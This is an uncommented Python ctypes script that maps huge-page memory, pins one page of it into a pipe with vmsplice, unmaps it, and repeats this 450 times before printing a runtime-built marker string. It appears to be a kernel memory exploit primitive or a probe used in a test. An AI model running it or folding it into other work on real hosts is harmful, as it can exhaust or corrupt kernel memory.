import ctypes, os
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
kept = []
for _ in range(450):
    at = libc.mmap(None, ctypes.c_size_t(4 << 20), 3, 0x22, -1, ctypes.c_long(0))
    libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4 << 20), 14)
    start = (at + (1 << 21) - 1) >> 21 << 21
    ctypes.memset(start, 1, 4096)
    read, write = os.pipe()
    if libc.vmsplice(write, (ctypes.c_size_t * 2)(start, 4096), ctypes.c_size_t(1), 0) < 0:
        break
    libc.munmap(ctypes.c_void_p(at), ctypes.c_size_t(4 << 20))
    kept.append((read, write))
else:
    print("@TAKEN@".upper())
